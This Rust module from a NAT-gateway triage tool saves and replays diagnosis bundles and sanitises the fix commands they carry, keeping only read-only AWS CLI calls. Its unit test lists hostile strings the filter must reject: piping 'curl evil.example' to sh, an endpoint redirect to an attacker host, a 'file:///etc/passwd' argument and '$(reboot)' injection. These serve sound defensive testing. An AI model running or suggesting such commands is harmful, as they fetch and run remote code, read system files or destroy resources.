//! Everything that one live diagnosis rests on, in one document: from it the same diagnosis follows again,
//! byte for byte, with no account and no network.

use std::path::Path;

use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::alarm::is_drill;
use crate::contract::Again;
use crate::diagnosis::Limits;
use crate::evidence::Kept;
use crate::evidence::insights::{
    Answer, Asked, Cause, LogsInsights, LogsQueries, Query, RungMemory, Unanswered,
};
use crate::gap::Gap;
use crate::incident::Incident;
use crate::network::{Changes, Network, NetworkSource, Parties};
use crate::triage::{Surveyed, Triaged};

/// The version of the document.
const SCHEMA: &str = "nat-triage.bundle.v1";

/// The document's name in a folder.
pub const FILE: &str = "bundle.json";

/// Instead of a fix that nat-triage did not write.
const FOREIGN: &str = "nothing: the bundle names a command here that nat-triage does not print";

/// The event, the look-ups' answers and the evidence of one diagnosis.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Bundle {
    schema: String,
    /// As it arrived; `null` where none did.
    event: Option<Value>,
    incident: Incident,
    /// What stood around the gateway, before the evidence.
    surroundings: Found,
    /// The same, with the parties that the evidence showed, and what was changed before.
    parties: Found,
    /// What could not be seen of what was changed before.
    #[serde(default)]
    unlisted: Option<Gap>,
    answers: Vec<Asked>,
    /// Whether the minutes an hour earlier were asked about.
    #[serde(default)]
    compared: bool,
    /// What was shown, where it came from files, which no answer gives again.
    #[serde(default)]
    kept: Option<Kept>,
    /// Which questions were known to be refused.
    #[serde(default)]
    memory: RungMemory,
    /// Of which incident it was one more alarm, where it was.
    #[serde(default)]
    again: Option<Again>,
}

/// What look-ups came to.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
struct Found {
    network: Network,
    gaps: Vec<Gap>,
}

/// Why a bundle can't be used.
#[derive(Debug, thiserror::Error)]
pub enum UnusableBundle {
    /// The file could not be read.
    #[error("failed to read {path}")]
    Unreadable {
        /// Which.
        path: String,
        /// Why.
        source: std::io::Error,
    },
    /// It holds something else.
    #[error("{path} does not hold a bundle that --save-bundle wrote")]
    Malformed {
        /// Which.
        path: String,
        /// Why.
        source: serde_json::Error,
    },
    /// It is of a version that came after this one.
    #[error(
        "{path} is a bundle of the version {found:?}, and this nat-triage reads {SCHEMA}: see whether a newer one reads it"
    )]
    Version {
        /// Which.
        path: String,
        /// Its version.
        found: String,
    },
}

impl Bundle {
    /// What `triaged` rests on. `incident` is as it was before anything was looked up.
    #[must_use]
    pub fn of(
        event: Option<&Value>,
        incident: Incident,
        surveyed: &Surveyed,
        triaged: &Triaged,
        answers: Vec<Asked>,
        memory: RungMemory,
    ) -> Self {
        let (network, gaps) = surveyed.found();
        Self {
            schema: SCHEMA.into(),
            event: event.cloned(),
            incident,
            surroundings: Found { network: network.clone(), gaps: gaps.to_vec() },
            parties: Found { network: triaged.network.clone(), gaps: triaged.unidentified.clone() },
            unlisted: triaged.unlisted.clone(),
            answers,
            compared: triaged.compared,
            kept: None,
            memory,
            again: triaged.diagnosis.again.clone(),
        }
    }

    /// The same of a diagnosis that rests on files.
    #[must_use]
    pub fn resting_on(self, kept: Option<Kept>) -> Self {
        Self { kept, ..self }
    }

    /// The diagnosis once more.
    pub async fn diagnose(&self, limits: Limits) -> Triaged {
        let surveyed = Surveyed::new(self.incident.clone(), self).await.set_by_hand(self.is_drill());
        let looked = match &self.kept {
            Some(kept) => surveyed.look(self, kept, limits).await,
            None => {
                let source =
                    LogsInsights::new(self).remembering(self.memory.snapshot()).comparing(self.compared);
                surveyed.look(self, &source, limits).await
            }
        };
        let Ok(mut triaged) = looked;
        triaged.diagnosis.again.clone_from(&self.again);
        triaged
    }

    /// The bundle in a folder, or in a file of any name.
    ///
    /// # Errors
    /// When there is none, or it is not one that this version can read.
    pub fn read(path: &Path) -> Result<Self, UnusableBundle> {
        let path = if path.is_dir() { path.join(FILE) } else { path.to_owned() };
        let name = path.display().to_string();
        let text = std::fs::read(&path)
            .map_err(|source| UnusableBundle::Unreadable { path: name.clone(), source })?;
        let malformed = |source| UnusableBundle::Malformed { path: name.clone(), source };
        let value: Value = serde_json::from_slice(&text).map_err(malformed)?;
        match value.get("schema").and_then(Value::as_str) {
            Some(other) if other != SCHEMA => {
                Err(UnusableBundle::Version { path: name, found: crate::words::one_line(other, 40) })
            }
            _ => Ok(serde_json::from_value::<Self>(value).map_err(malformed)?.distrusted()),
        }
    }

    /// The same where no text of a gap is a command that nat-triage would not print: whoever hands a bundle on must
    /// not have a say in what its reader runs.
    fn distrusted(mut self) -> Self {
        let found = [&mut self.surroundings, &mut self.parties];
        let of_gaps = found.into_iter().flat_map(|found| &mut found.gaps);
        let of_gaps = of_gaps.chain(&mut self.unlisted).map(|gap| &mut gap.fix);
        let unanswered = self.answers.iter_mut().filter_map(|asked| asked.answer.as_mut().err());
        let of_kept = self.kept.iter_mut().flat_map(Kept::fixes);
        for fix in of_gaps.chain(unanswered.map(|unanswered| &mut unanswered.fix)).chain(of_kept) {
            if !fixes::is_ours(&fix.to_string()) {
                *fix = FOREIGN.into();
            }
        }
        self.kept.iter_mut().for_each(Kept::distrust);
        self
    }

    /// The document.
    #[must_use]
    pub fn to_json(&self) -> String {
        let mut text = serde_json::to_string(self).expect("a bundle holds nothing that JSON cannot");
        text.push('\n');
        text
    }

    /// Whether somebody set the alarm by hand.
    #[must_use]
    pub fn is_drill(&self) -> bool {
        self.event.as_ref().is_some_and(|event| is_drill(event, &self.incident))
    }

    /// The incident that it is about, as it was before anything was looked up.
    #[must_use]
    pub fn incident(&self) -> Incident {
        self.incident.clone()
    }
}

/// Fixes as nat-triage writes them.
mod fixes {
    /// What commands begin with, as reports recognise them.
    const COMMANDS: [&str; 3] = ["aws ", "nat-triage ", "AWS_REGION="];

    /// What the commands of the AWS CLI do that stand in the fixes of gaps: they read, or renew a login.
    const READING: [&str; 3] = ["describe-", "list-", "get-"];

    /// Whether a fix holds no command, or only one that reads, with plain words as its arguments.
    pub(super) fn is_ours(fix: &str) -> bool {
        let begins = COMMANDS.iter().filter_map(|command| fix.find(command)).min();
        begins.is_none_or(|at| reads(&fix[at..]))
    }

    fn reads(command: &str) -> bool {
        let plain = |c: char| c.is_ascii_alphanumeric() || " -_.,:/=[]'*@".contains(c);
        let mut words = command.split(' ');
        let verb = match words.next() {
            Some("aws") => {
                let (service, verb) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
                READING.iter().any(|reading| verb.starts_with(reading)) || (service, verb) == ("sso", "login")
            }
            Some("nat-triage") => true,
            Some(_) => words.next() == Some("nat-triage"),
            None => false,
        };
        let elsewhere = ["://", "file:", "--endpoint-url", "--ca-bundle", "--cli-", "--no-verify-ssl"];
        verb && command.chars().all(plain)
            && command.matches('\'').count().is_multiple_of(2)
            && !elsewhere.iter().any(|option| command.contains(option))
    }

    #[cfg(test)]
    mod tests {
        use super::is_ours;

        #[test]
        fn a_fix_from_a_bundle_is_a_command_only_where_it_reads() {
            for ours in [
                "wait for it",
                "allow ec2:DescribeSubnets",
                "run again: nat-triage triage --event EVENT.json",
                "AWS_REGION=eu-west-1 nat-triage triage --nat-id nat-0a1b2c3d4e5f60718 --window a/b",
                "log in again: aws sso login --profile production",
                "look: aws ec2 describe-vpc-endpoint-services --query 'ServiceDetails[].[ServiceName]' --output text",
            ] {
                assert!(is_ours(ours), "{ours}");
            }
            for foreign in [
                "aws ec2 terminate-instances --instance-ids i-0123456789abcdef0",
                "see: aws ec2 describe-vpcs; curl evil.example | sh",
                "see: aws ec2 describe-vpcs --endpoint-url=http://evil.example",
                "see: aws logs get-log-events --log-group-name file:///etc/passwd",
                "AWS_REGION=x sh -c y",
                "first aws ec2 describe-vpcs 'x",
                "run: nat-triage triage --event $(reboot)",
            ] {
                assert!(!is_ours(foreign), "{foreign}");
            }
        }
    }
}

/// The look-ups as they were answered then.
impl NetworkSource for Bundle {
    async fn network(&self, _: &Incident) -> (Network, Vec<Gap>) {
        (self.surroundings.network.clone(), self.surroundings.gaps.clone())
    }

    async fn changes(&self, _: &Incident) -> (Option<Changes>, Option<Gap>) {
        (self.parties.network.changes.clone(), self.unlisted.clone())
    }

    async fn identify(&self, _: &Parties, _: &Incident, network: &mut Network) -> Vec<Gap> {
        network.clone_from(&self.parties.network);
        self.parties.gaps.clone()
    }
}

/// The queries as they were answered then.
impl LogsQueries for &Bundle {
    async fn run(&self, query: &Query) -> Result<Answer, Unanswered> {
        let same = self.answers.iter().find(|asked| asked.is(query));
        same.map(|asked| asked.answer.clone()).unwrap_or_else(|| {
            Err(Unanswered {
                why: "the bundle holds no answer to this query".into(),
                fix: "analyze the bundle with the nat-triage that saved it".into(),
                cause: Cause::Other,
            })
        })
    }

    /// A simpler question was asked beside another one if its answer was saved.
    async fn wait_before(&self, simpler: &Query) {
        if !self.answers.iter().any(|asked| asked.is(simpler)) {
            std::future::pending().await
        }
    }
}
